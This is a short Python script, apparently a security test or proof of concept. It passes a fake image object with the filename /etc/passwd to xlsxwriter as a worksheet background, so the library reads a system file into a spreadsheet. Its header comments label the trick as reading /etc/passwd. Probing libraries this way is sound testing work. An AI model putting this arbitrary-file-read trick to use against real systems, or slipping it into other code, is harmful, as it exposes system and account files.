# class: data
# mechanism: reader by path
# how: background of a sheet
# reaches: reads /etc/passwd
import io
import xlsxwriter


class Picture:
    filename = "/etc/passwd"
    image_data = None
    _image_extension = "png"
    _digest = "a"


book = xlsxwriter.Workbook(io.BytesIO())
sheet = book.add_worksheet()
sheet.background_image = Picture()
book.close()
